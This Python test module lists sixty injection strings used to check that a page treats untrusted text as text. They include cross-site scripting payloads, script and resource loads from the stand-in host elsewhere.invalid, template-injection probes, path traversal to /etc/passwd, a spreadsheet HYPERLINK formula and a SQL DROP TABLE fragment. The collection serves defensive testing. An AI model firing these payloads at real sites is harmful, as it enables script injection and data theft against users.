"""Sixty texts that would be a script, a request or a mess in a page that is careless (P41).

Each would, when taken for anything but text, call `alert`, set `window.hit`, ask another origin,
or break out of what it stands in.
"""

from __future__ import annotations

ELSEWHERE = "http://elsewhere.invalid"

_TAGS = (
    "<script>alert(1)</script>",
    "</script><script>hit=1</script>",
    "<SCRIPT SRC=//elsewhere.invalid/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    f"<img src={ELSEWHERE}/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script>hit=1</script></svg>",
    "<svg><animate onbegin=hit=1 attributeName=x>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mi xlink:href=javascript:hit=1>x",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,x>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    "<style>*{background:url(//elsewhere.invalid)}",
    "<base href=http://elsewhere.invalid/>",
    "<meta http-equiv=refresh content=0;url=/j>",
    "<form action=//elsewhere.invalid><button>",
    "<a href=javascript:alert(1)>klik</a>",
    "<template><script>hit=1</script></template>",
    "<noscript><img src=x onerror=hit=1>",
    "<textarea></textarea><img onerror=hit=1>",
    "<!--><script>hit=1</script>-->",
    "<![CDATA[<script>hit=1</script>]]>",
    "<x onclick=alert(1)>tik hier</x>",
    "<b>vet</b> &lt;i&gt; &amp;amp;",
)
_QUOTES = (
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) '",
    "`${alert(1)}`",
    "${hit=1}",
    "{{7*7}}",
    "{{constructor.constructor('hit=1')()}}",
    "{@html '<img onerror=hit=1>'}",
    "{alert(1)}",
    "<%= 7*7 %>",
    "#{7*7}",
    "';alert(1)//",
    '");hit=1;//',
    "\\u003cscript\\u003ehit=1\\u003c/script\\u003e",
    "%3Cscript%3Ehit=1%3C/script%3E",
    "&#60;script&#62;hit=1",
    "javascript:alert(document.domain)",
    "data:text/html,<script>hit=1</script>",
    "vbscript:msgbox(1)",
)
_ODD = (
    "__proto__",
    "constructor",
    "toString",
    "../../etc/passwd",
    '=HYPERLINK("http://elsewhere.invalid")',
    "@import 'http://elsewhere.invalid'",
    "![x](http://elsewhere.invalid/x.png)",
    "[x](javascript:alert(1))",
    "; DROP TABLE boards; --",
    "undefined null NaN [object Object]",
)
STRINGS = (*_TAGS, *_QUOTES, *_ODD)
assert len(STRINGS) == len(set(STRINGS)) == 60
